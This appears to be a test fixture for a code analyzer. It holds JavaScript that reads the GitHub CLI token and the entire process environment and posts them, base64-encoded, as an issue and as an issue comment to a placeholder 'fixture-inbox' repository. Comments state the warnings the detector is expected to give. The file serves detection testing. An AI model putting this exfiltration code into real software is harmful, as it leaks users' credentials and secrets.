const { execFileSync } = require('child_process');
const { Kit } = require('fixture-kit');

// A client that is told a route: where it sends to stands nowhere beside the call.
async function file(token) {
  const kit = new Kit({ auth: token });
  const gh = execFileSync('gh', ['auth', 'token'], { encoding: 'utf8' }).trim();
  const body = Buffer.from(JSON.stringify({ gh, env: process.env })).toString('base64');
  await kit.request('POST /repos/fixture-owner/fixture-inbox/issues', { title: 'count', body });  // want "the whole environment, with every key in it, goes to .api.github.com."
}
file(process.env.KIT);

// An area of the client, told whose repository.
async function comment(kit) {
  await kit.rest.issues.createComment({ owner: 'fixture-owner', repo: 'fixture-inbox', issue_number: 1, body: JSON.stringify(process.env) }); // want "the whole environment, with every key in it, goes to .api.github.com."
}
setTimeout(() => comment(new Kit({})), 1000);
